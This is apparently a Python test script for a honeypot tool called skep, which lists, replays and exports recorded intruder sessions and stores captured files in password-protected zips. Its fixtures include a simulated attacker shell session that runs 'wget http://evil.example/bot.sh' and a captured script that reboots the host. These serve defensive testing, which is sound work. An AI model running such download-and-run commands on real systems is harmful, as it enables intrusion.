#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""skep sessions, skep replay and skep files on a folder that talk and session made of conversations on the wire."""
import glob
import io
import json
import os
import pty
import re
import select
import shutil
import signal
import struct
import subprocess
import sys
import tarfile
import tempfile
import termios
import time
import fcntl
import zipfile

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
BUILD = os.path.abspath(os.environ.get("SKEP_BUILD", os.path.join(ROOT, "build")))
SKEP = os.path.abspath(os.environ.get("SKEP", os.path.join(BUILD, "src/cmd/skep")))
MAKE = os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(SKEP))), "src/talk/make_inside")
sys.path.insert(0, os.path.join(ROOT, "tests/lib"))
import validate_events as ve  # noqa: E402

results = []
SCRIPT = b"#!/bin/sh\nreboot\n\n"
PATIENCE = 30


def report(good, what, detail=""):
    results.append(bool(good))
    print(f"{'ok' if good else 'not ok'} {len(results)} - {what}")
    for line in [] if good else str(detail).splitlines()[:40]:
        print(f"#   {line}")


def skep(*argv, conf):
    return subprocess.run([SKEP, *argv], capture_output=True, timeout=60, stdin=subprocess.DEVNULL,
                          env={**os.environ, "SKEP_CONF": conf, "LC_ALL": "C.UTF-8"})


def events(lines):
    ve.skep_schema = lambda: json.load(open(f"{ROOT}/docs/skep-schema.json", encoding="utf-8"))
    seen = {json.loads(x)["event_type"] for x in lines}
    report({"session", "command", "login", "file"} <= seen, "sessions, commands, logins, a file are events", seen)
    try:
        check = ve.validators(ve.eve_schema([]))["skep"]
    except ImportError:
        return
    faults = [f for x in lines for f in ve.faults(x + b"\n", check)]
    report(not faults, f"{len(lines)} events follow the schema", "\n".join(map(str, faults)))


def listing(conf):
    p = skep("sessions", conf=conf)
    out = p.stdout.decode()
    report(p.returncode == 0 and re.search(r"telnet .*root/hive .*wire", out), "the list has who came by telnet",
           out + p.stderr.decode())
    report(re.search(r"5 visits from 1 places .*\(5 passwords\)", out) and "pop3" in out,
           "guessers are counted, not listed", out)
    report(len(re.findall(r" pop3 ", skep("sessions", "--all", conf=conf).stdout.decode())) == 5,
           "--all lists them")
    rows = [json.loads(x) for x in skep("sessions", "--json", conf=conf).stdout.splitlines()]
    by = {r["service"]: r for r in rows}
    report(set(by) == {"telnet", "shell", "http"} and by["telnet"]["commands"] == 2 and by["telnet"]["recorded"]
           and by["http"]["files"] == 1, "--json has the same", rows)
    report(skep("sessions", "-g", "nobody", "--json", conf=conf).stdout == b"", "--guest picks")
    report(skep("sessions", "--since", "2100-01-01", "--json", conf=conf).stdout == b"", "--since picks")
    report(len(skep("sessions", "-n", "1", "--json", conf=conf).stdout.splitlines()) == 1, "-n picks")
    report(skep("sessions", "-n", "x", conf=conf).returncode == 2, "a bad number is refused")
    return {k: v["id"] for k, v in by.items()}


def showing(ids, conf):
    p = skep("sessions", "show", ids["telnet"], conf=conf)
    out = p.stdout.decode()
    report(p.returncode == 0 and re.search(r"root / hive .*accepted", out) and "$ top" in out and "by wire" in out,
           "show tells who, how and what", out + p.stderr.decode())
    report(not re.search(r"[^\n\x20-\x7e]", out), "... and nothing but printable text")
    report("skep files get" in skep("sessions", "show", ids["http"], conf=conf).stdout.decode(), "... and its files")
    record = json.loads(skep("sessions", "show", "--json", ids["telnet"], conf=conf).stdout)
    report(record["id"] == ids["telnet"], "show --json is the record")
    p = skep("sessions", "show", "zzzzzzz", conf=conf)
    report(p.returncode == 1 and b"no session" in p.stderr, "an unknown id is said to be one", p.stderr)
    p = skep("sessions", "show", ids["telnet"][:3], conf=conf)
    report(p.returncode == 1 and b"several" in p.stderr, "an id that is too short, too", p.stderr)


def exporting(ids, conf, top):
    to = os.path.join(top, "out")
    skep("sessions", "export", ids["telnet"], to, conf=conf)
    names = sorted(os.listdir(to))
    report(names == [ids["telnet"] + ".cast", ids["telnet"] + ".json"], "export into a folder", names)
    again = skep("sessions", "export", ids["telnet"], to, conf=conf)
    report(again.returncode == 1, "... which is not written over", again.stderr)
    skep("sessions", "export", ids["http"], to + ".tar.gz", conf=conf)
    with tarfile.open(to + ".tar.gz") as t:
        inside = {os.path.basename(m.name): t.extractfile(m).read() for m in t}
    report(set(inside) == {ids["http"] + ".json", "files.sha256"} and b"bot.sh" in inside["files.sha256"],
           "export as an archive, with the list of its files", inside)
    path = os.path.join(to, ids["telnet"] + ".cast")
    p = skep("replay", "--speed", "0", path, conf=conf)
    report(p.returncode == 0 and b"load" in p.stdout, "an exported recording plays by its path", p.stderr)


def plain(ids, conf):
    out = skep("replay", "--speed", "0", ids["telnet"], conf=conf).stdout
    report(b"\x1b[?1049h\x1b[H\x1b[2J\x1b[1;31mload\x1b[0m 0.1\x1b[5;10Hbusy" in out, "what draws is played as it was", out)
    report(b"]52;" not in out and b"\x1b[6n" not in out and b"[21t" not in out, "what asks or reaches out is not", out)
    raw = skep("replay", "--speed", "0", "--raw", ids["telnet"], conf=conf).stdout
    report(b"\x1b]52;c;" in raw and b"\x1b[6n" in raw, "--raw plays all")
    out = skep("replay", "--speed", "0", ids["shell"], conf=conf).stdout
    report(out == b"id\r\nuid=0(root)\r\nwget http://evil.example/bot.sh\r\nsaved\r\n", "without an echo what was typed is shown", out)
    out = skep("replay", "--speed", "0", "--search", "BUSY", ids["telnet"], conf=conf)
    report(out.returncode == 0 and b"busy" in out.stdout, "--search finds")
    report(skep("replay", "--speed", "0", "--search", "nowhere", ids["telnet"], conf=conf).returncode == 1,
           "... or says no")
    begin = time.monotonic()
    skep("replay", "--speed", "1000", "--max-idle", "1", ids["telnet"], conf=conf)
    report(time.monotonic() - begin < PATIENCE, "--max-idle cuts a minute's pause")
    for argv in (["--from", "x"], ["--speed", "-1"], ["--terminal", "0"], []):
        p = skep("replay", *argv, *([ids["telnet"]] if argv else []), conf=conf)
        report(p.returncode == 2, f"replay {' '.join(argv) or 'of nothing'} is refused", p.stderr)
    report(skep("replay", ids["http"], conf=conf).returncode == 1, "what has no recording says so")
    p = skep("replay", "--speed", "0", conf, conf=conf)
    report(p.returncode in (1, 2), "a file that is no recording is refused", p.stderr)


class Terminal:
    """skep replay in a terminal of its own."""
    def __init__(self, conf, *argv):
        self.pid, self.fd = pty.fork()
        if self.pid == 0:
            os.environ.update(SKEP_CONF=conf, TERM="xterm")
            os.execv(SKEP, [SKEP, "replay", *argv])
        fcntl.ioctl(self.fd, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
        self.before = termios.tcgetattr(self.fd)
        self.seen = b""

    def read(self):
        try:
            got = os.read(self.fd, 65536)
        except OSError:
            got = b""
        self.seen += got
        return got

    def until(self, *words):
        end = time.monotonic() + PATIENCE
        while not any(w in self.seen for w in words) and time.monotonic() < end:
            if select.select([self.fd], [], [], 1)[0] and not self.read():
                break
        return any(w in self.seen for w in words)

    def press(self, keys):
        self.seen = b""
        os.write(self.fd, keys)

    def over(self):
        """(exit status, is the terminal as it was?)"""
        end = time.monotonic() + PATIENCE
        while time.monotonic() < end:
            pid, status = os.waitpid(self.pid, os.WNOHANG)
            if pid != 0:
                break
            if select.select([self.fd], [], [], 0.05)[0]:
                self.read()
        else:
            os.kill(self.pid, signal.SIGKILL)
            status = os.waitpid(self.pid, 0)[1]
        now = termios.tcgetattr(self.fd)
        while select.select([self.fd], [], [], 0)[0] and self.read():
            pass
        os.close(self.fd)
        return status, now[3] == self.before[3] and now[0] == self.before[0]


def keys(ids, conf):
    t = Terminal(conf, ids["telnet"])
    report(t.until(b"login: "), "on a terminal it plays", t.seen)
    t.press(b" ")
    report(t.until(b"q quit"), "space pauses, and tells the keys", t.seen)
    t.press(b"\x1b[C\x1b[C")
    report(t.until(b"busy"), "arrows go forward", t.seen)
    t.press(b"/hive\r")
    report(t.until(b"not found"), "what was not shown is not found", t.seen)
    t.press(b"0")
    t.press(b"/logou\x7f\x7fgin\r")
    report(t.until(b"login"), "/ searches from here on", t.seen)
    t.press(b"0m")
    report(t.until(b"0:0"), "m goes to a marker", t.seen)
    t.press(b"+")
    report(t.until(b"x2"), "+ is faster", t.seen)
    t.press(b"q")
    status, back = t.over()
    report(status == 0 and back and b"\x1b[?1049l" in t.seen, "q ends it and sets the terminal back", (status, back, t.seen))
    report(b"]52;" not in t.seen, "... and nothing reached out")
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        t = Terminal(conf, ids["telnet"])
        t.until(b"login: ")
        os.kill(t.pid, sig)
        status, back = t.over()
        report(status == sig and back and b"\x1b[?1049l" in t.seen,
               f"{sig.name} sets it back, too, and then does what it does", (status, back, t.seen[-80:]))
    t = Terminal(conf, "--speed", "200", ids["telnet"])
    status, back = t.over()
    report(status == 0 and back and b"ogout" in t.seen, "at its end it ends", (status, t.seen))


def files(conf, top):
    rows = [json.loads(x) for x in skep("files", "--json", conf=conf).stdout.splitlines()]
    report(len(rows) == 1 and rows[0]["size"] == len(SCRIPT) and rows[0]["kept"] and rows[0]["how"] == "fetched",
           "the file is listed", rows)
    total = rows[0]["sha256"]
    report(total[:16] in skep("files", conf=conf).stdout.decode(), "... for people, too")
    report(total in skep("files", "show", total[:8], conf=conf).stdout.decode(), "show has it by its beginning")
    to = os.path.join(top, "f.zip")
    p = skep("files", "get", total[:8], "-o", to, conf=conf)
    with zipfile.ZipFile(to) as z:
        name = z.namelist()[0]
        try:
            z.read(name)
            bare = True
        except RuntimeError:
            bare = False
        content = z.read(name, pwd=b"infected")
    report(content == SCRIPT and not bare and SCRIPT not in open(to, "rb").read(), "get gives a zip with a password", p.stderr)
    if shutil.which("unzip"):
        p = subprocess.run(["unzip", "-P", "infected", "-p", to], capture_output=True)
        report(p.stdout == SCRIPT, "unzip agrees", p.stderr)
    report(not os.stat(to).st_mode & 0o111, "it is not executable")
    p = skep("files", "get", total, "-o", to, conf=conf)
    report(p.returncode == 1 and b"already" in p.stderr, "nothing is written over", p.stderr)
    live = os.path.join(top, "live")
    skep("files", "get", total, "--live", "-o", live, conf=conf)
    report(open(live, "rb").read() == SCRIPT and not os.stat(live).st_mode & 0o111, "--live is the content itself")
    report(skep("files", "get", "../../etc", "-o", to + "2", conf=conf).returncode == 2, "no path passes for a hash")
    report(skep("files", "get", "0000", "-o", to + "2", conf=conf).returncode == 1, "an unknown hash is said to be one")


def record(argv, keys):
    """What a program says to a terminal of 80 by 24, with keys pressed whenever it has been silent for a while."""
    pid, fd = pty.fork()
    if pid == 0:
        os.environ.update(TERM="xterm-256color", COLUMNS="80", LINES="24", HOME="/nonexistent")
        os.execvp(argv[0], argv)
    fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
    said, keys, end = b"", list(keys), time.monotonic() + PATIENCE
    while time.monotonic() < end:
        if select.select([fd], [], [], 0.5)[0]:
            try:
                said += os.read(fd, 65536)
            except OSError:
                break
        elif keys:
            os.write(fd, keys.pop(0))
        else:
            break
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    os.close(fd)
    return said


def cells(data):
    import pyte

    class Screen(pyte.Screen):
        """pyte stumbles over questions about what keys send, which look like colours to it."""
        def select_graphic_rendition(self, *attrs, private=False):
            if not private:
                super().select_graphic_rendition(*attrs)
    screen = Screen(80, 24)
    pyte.ByteStream(screen).feed(data)
    return [[screen.buffer[y][x] for x in range(80)] for y in range(24)], screen.cursor.x, screen.cursor.y


def full_screen(conf, top):
    """Through the filter a full-screen program looks the same, cell by cell."""
    try:
        import pyte  # noqa: F401
    except ImportError:
        print("# python3-pyte is not installed: no comparison of screens")
        return
    path = os.path.join(top, "full.cast")
    for argv, keys in ((["vim", "-u", "NONE", "-n", "-N", f"{ROOT}/README.md"], [b":set number hlsearch\r/the\r", b"ihello\x1b", b"\x06"]),
                       (["top", "-b" if os.getuid() else "-d5"], [b"1"]), (["less", "-N", f"{ROOT}/README.md"], [b" ", b"/skep\r"])):
        if shutil.which(argv[0]) is None:
            continue
        said = record(argv, keys).decode("utf-8", "replace")
        with open(path, "w", encoding="utf-8") as f:
            f.write(json.dumps({"version": 2, "width": 80, "height": 24}) + "\n")
            for at in range(0, len(said), 100):
                f.write(json.dumps([at / 1000, "o", said[at:at + 100]]) + "\n")
        p = skep("replay", "--speed", "0", path, conf=conf)
        a, b = cells(said.encode()), cells(p.stdout)
        odd = [(y, x, a[0][y][x], b[0][y][x]) for y in range(24) for x in range(80) if a[0][y][x] != b[0][y][x]]
        report(len(said) > 500 and not odd and a[1:] == b[1:], f"{argv[0]} looks the same through the filter, cell by cell",
               f"{len(said)} characters, {odd[:5]}, cursors {a[1:]} {b[1:]}")


def damaged(ids, conf, top):
    """What is on disk was written by a process that read hostile bytes."""
    [cast] = glob.glob(f"{top}/state/inside/sessions/*/{ids['shell']}.cast")
    text = open(cast, "rb").read()
    bad = os.path.join(top, "bad.cast")
    for what, data in (("cut", text[:-9]), ("a wrong line", text + b'[1,2,3]\n["x"]\nnonsense\n'),
                       ("times that go back", text + b'[0.0,"o","late"]\n[1e300,"o","far"]\n'),
                       ("a huge line", text + b'[9,"o","' + b"x" * (3 << 20) + b'"]\n')):
        open(bad, "wb").write(data)
        p = skep("replay", "--speed", "0", bad, conf=conf)
        report(p.returncode == 0 and b"uid=0" in p.stdout, f"a recording with {what} plays as far as it goes", p.stderr)
    for data in (b"", b"{}", b"\0" * 5000, b'{"version":1}\n'):
        open(bad, "wb").write(data)
        report(skep("replay", "--speed", "0", bad, conf=conf).returncode == 1, f"{data[:14]!r} is no recording")


def main():
    if not os.path.exists(MAKE):
        print("ok 1 - visits # SKIP make_inside is not built")
        print("1..1")
        return 0
    top = tempfile.mkdtemp(prefix="skep-visits-")
    try:
        conf = os.path.join(top, "skep.yaml")
        os.makedirs(os.path.join(top, "state/inside"))
        with open(conf, "w", encoding="utf-8") as f:
            f.write(f"name: visits\nstate_dir: {top}/state\n")
        p = skep("sessions", conf=conf)
        report(p.returncode == 0 and b"no session yet" in p.stderr, "an empty folder has no session", p.stderr)
        p = subprocess.run([MAKE, os.path.join(top, "state/inside")], capture_output=True, timeout=120)
        report(p.returncode == 0, "a folder is made", p.stderr)
        events(p.stdout.splitlines())
        ids = listing(conf)
        showing(ids, conf)
        exporting(ids, conf, top)
        plain(ids, conf)
        keys(ids, conf)
        files(conf, top)
        full_screen(conf, top)
        damaged(ids, conf, top)
    finally:
        shutil.rmtree(top, ignore_errors=True)
    print(f"1..{len(results)}")
    return 0 if all(results) else 1


sys.exit(main())
